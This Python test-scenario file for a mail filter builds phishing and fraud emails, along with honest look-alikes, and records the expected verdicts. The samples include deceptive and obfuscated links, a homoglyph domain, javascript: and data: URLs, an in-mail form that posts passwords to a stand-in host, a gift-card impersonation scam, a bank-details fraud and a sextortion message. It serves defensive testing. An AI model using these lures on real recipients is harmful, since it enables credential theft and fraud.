"""Mail that is honest about its sender's address and lies in its words and links; and honest mail that looks like it.

In: `Stage`. Out: steps. Most of it is signed and aligned: who it comes from is proven, and does not help.
Standard: UTS 39 (look-alike names). Not here: files (`payloads`), forged senders (`spoofed`).
"""

from __future__ import annotations

from gatepost.lab import cast, parcels
from gatepost.lab.letters import File, compose_parts, hand_in
from gatepost.lab.scenario import Expected, Outcome, Scenario, Script, Stage, Step

ACCEPTED = (Outcome.ACCEPTED,)
STOPPED = ("tag", "quarantine", "reject")
PAGE = "<html><body>{}</body></html>"
LOGIN = "Dear customer,\n\nyour account was locked. Confirm your password within 24 hours:\n\n{}\n\nBank\n"


def _by(sender: str, subject: str, text: str, html: str = "", files: tuple[File, ...] = (), name: str = "") -> Script:
    """A mail from `sender`, signed by its domain where that signs."""
    domain = sender.rpartition("@")[2]
    host = {"freemail.example": "mx.freemail.example", "club.example": "lists.club.example"}.get(
        domain, f"mail.{domain}"
    )

    def script(stage: Stage) -> tuple[Step, ...]:
        said = f"{name or sender.partition('@')[0].title()} <{sender}>"
        raw = compose_parts(stage, said, subject, text=text, html=html, files=files)
        if stage.internet.keys.get(domain):
            raw = stage.internet.sign(domain, raw, stage.now)
        return hand_in(stage, host, sender, raw)

    return script


def _link(target: str, shown: str) -> str:
    return PAGE.format(f'<p>Dear customer, your account was locked.</p><p><a href="{target}">{shown}</a></p>')


MALLORY = "mallory@freemail.example"
PRESS = "Your account was locked. Please sign in with the link below."

SCENARIOS: tuple[Scenario, ...] = (
    Scenario(
        name="link-shows-another",
        title="a link that shows the bank and leads elsewhere",
        good=False,
        source=cast.FREEMAIL,
        script=_by(
            MALLORY,
            "Your account",
            PRESS,
            _link("http://host7.hoster.example/login/verify", "https://www.bank.example/login"),
        ),
        expected=Expected(outcomes=ACCEPTED, actions=("accept", *STOPPED), codes=("link.text-differs",)),
        why="What is shown is not where it goes; few readers look twice.",
    ),
    Scenario(
        name="link-to-number",
        title="a link to a bare address that asks for the password",
        good=False,
        source=cast.FREEMAIL,
        script=_by(MALLORY, "Account locked", LOGIN.format("http://192.0.2.66/bank/login/confirm-password")),
        expected=Expected(outcomes=ACCEPTED, actions=("accept", *STOPPED), codes=("link.ip-host",)),
        why="Honest senders have names; a bare address hides whose server it is.",
    ),
    Scenario(
        name="link-hidden-number",
        title="the same address written as one long number",
        good=False,
        source=cast.FREEMAIL,
        script=_by(MALLORY, "Account locked", PRESS, _link("http://3221226050/login", "Sign in")),
        expected=Expected(outcomes=ACCEPTED, actions=("accept", *STOPPED), codes=("link.ip-host",)),
        why="Browsers understand octal, hexadecimal and single numbers; people do not.",
    ),
    Scenario(
        name="link-user-info",
        title="a link that starts with the bank's name and an at sign",
        good=False,
        source=cast.FREEMAIL,
        script=_by(
            MALLORY, "Account locked", PRESS, _link("http://www.bank.example@host7.hoster.example/login", "Sign in")
        ),
        expected=Expected(outcomes=ACCEPTED, actions=("accept", *STOPPED), codes=("link.user-info",)),
        why="Everything before the at sign is a user name; the server stands behind it.",
    ),
    Scenario(
        name="link-lookalike",
        title="a link to our own name with a foreign letter in it",
        good=False,
        source=cast.FREEMAIL,
        script=_by(MALLORY, "New webmail", PRESS, _link("https://g\u0430te.example/login", "Sign in")),
        expected=Expected(outcomes=ACCEPTED, actions=("accept", *STOPPED), codes=("link.lookalike",)),
        why="The second letter is Cyrillic; on the screen it is the same.",
    ),
    Scenario(
        name="link-in-code",
        title="a picture with a code instead of a link",
        good=False,
        source=cast.FREEMAIL,
        script=_by(
            MALLORY,
            "Renew your second factor",
            "Scan the code with your phone to keep your access.",
            PAGE.format('<p>Scan the code with your phone to keep your access.</p><img src="cid:code">'),
            (File(name="code.png", media_type="image/png", octets=parcels.CODE, cid="code"),),
        ),
        expected=Expected(outcomes=ACCEPTED, actions=("accept", *STOPPED), codes=("link.code",)),
        why="The phone has no filter, and the reader sees no address.",
    ),
    Scenario(
        name="script-in-link",
        title="a link that is a program, and one that is a whole page",
        good=False,
        source=cast.FREEMAIL,
        script=_by(
            MALLORY,
            "Your invoice",
            "See your invoice below.",
            PAGE.format(
                '<a href="javascript:location=1">invoice</a>'
                '<a href="data:text/html;base64,PGZvcm0+PC9mb3JtPg==">invoice</a>'
            ),
        ),
        expected=Expected(outcomes=ACCEPTED, actions=("accept", *STOPPED), codes=("link.javascript", "link.data-url")),
        why="Nothing honest in mail is written like this.",
    ),
    Scenario(
        name="form-in-mail",
        title="a form in the mail that sends the password to a stranger",
        good=False,
        source=cast.FREEMAIL,
        script=_by(
            MALLORY,
            "Mailbox full",
            "Sign in to get more room.",
            PAGE.format(
                '<form action="http://host7.hoster.example/take.php" method="post">'
                '<input name="user"><input type="password" name="password"><input type="submit"></form>'
            ),
        ),
        expected=Expected(outcomes=ACCEPTED, actions=("accept", *STOPPED), codes=("link.remote-form",)),
        why="The password would leave without any page being opened.",
    ),
    Scenario(
        name="boss-at-freemail",
        title="the boss's name with an address at a free provider",
        good=False,
        source=cast.FREEMAIL,
        script=_by(
            "boss.office@freemail.example",
            "Are you at your desk?",
            "I need you to buy gift cards for a client, 5 x 100. Scratch them and send me the codes.\n"
            "Keep it between us.",
            name="Erika Muster",
        ),
        expected=Expected(outcomes=ACCEPTED, actions=STOPPED, codes=("sender.colleagues-name",)),
        why="Mail programs show the name alone; the address is a stranger's.",
    ),
    Scenario(
        name="new-bank-details",
        title="new bank details for the next invoice, answer elsewhere",
        good=False,
        source=cast.NOSPF,
        script=_by(
            "accounts@nospf.example",
            "Re: invoice 2026-117",
            "Please note our new bank details for all payments from today. Our old account is closed.\n"
            "IBAN DE00 0000 0000 0000 0000 00. Please confirm the transfer today.",
            name="Supplier accounts",
        ),
        expected=Expected(outcomes=ACCEPTED, actions=("accept", *STOPPED), codes=("wording.bank-change",)),
        why="The costliest mail there is; it needs neither link nor file.",
    ),
    Scenario(
        name="extortion",
        title="a stranger who claims to have filmed you",
        good=False,
        source=cast.FREEMAIL,
        script=_by(
            MALLORY,
            "I recorded you",
            "I have access to your device and recorded you with your camera. Send 1200 USD in bitcoin to "
            "1BoatSLRHtKNngkdXEeobR76b53LETtpyT within 48 hours or I send the video to all your contacts.",
        ),
        expected=Expected(outcomes=ACCEPTED, actions=("accept", *STOPPED), codes=("wording.extortion",)),
        why="Sent by the million; there is no film.",
    ),
    Scenario(
        name="link-listed",
        title="a link to a domain that a list names, while another list refuses to answer",
        good=False,
        source=cast.FREEMAIL,
        script=_by(MALLORY, "Photos", "Look at the photos: http://photos.hoster.example/2026/"),
        expected=Expected(outcomes=ACCEPTED, actions=("accept", *STOPPED), codes=("list.uri", "list.sick")),
        why="The list weighs and does not decide alone; the other one's answer is no listing, so it is left out.",
    ),
    Scenario(
        name="listed-by-mistake",
        title="a club's mail, whose domain is on a list that is only watched",
        good=True,
        source=cast.CLUB,
        script=_by("board@club.example", "Next meeting", "We meet on Friday at eight, as always.\n"),
        expected=Expected(outcomes=ACCEPTED, actions=("accept",), codes=("list.watched",)),
        why="What the list would have added is recorded for `gatepost lists report`; it adds nothing.",
    ),
    Scenario(
        name="honest-newsletter",
        title="a newsletter with pictures, counted links and a way out",
        good=True,
        source=cast.LETTER,
        script=_by(
            "news@letter.example",
            "News of the week",
            "Read it on the web: https://www.letter.example/42\nUnsubscribe: https://www.letter.example/out?u=1\n",
            PAGE.format(
                '<img src="https://img.letter.example/open.gif" width="1" height="1">'
                '<p><a href="https://click.letter.example/c?id=42">Read it on the web</a></p>'
                '<p><a href="https://www.letter.example/out?u=1">Unsubscribe</a></p>'
            ),
        ),
        expected=Expected(outcomes=ACCEPTED, actions=("accept",)),
        why="It has all that spam has, too, and people asked for it.",
    ),
    Scenario(
        name="honest-password-mail",
        title="a password reset that somebody asked for",
        good=True,
        source=cast.LETTER,
        script=_by(
            "account@letter.example",
            "Reset your password",
            "You asked for a new password: https://www.letter.example/reset?token=3f9a\n"
            "If it was not you, do nothing. Your code is 482913.\n",
        ),
        expected=Expected(outcomes=ACCEPTED, actions=("accept",)),
        why="It speaks of passwords and links to its own sender; it must come at once.",
    ),
)
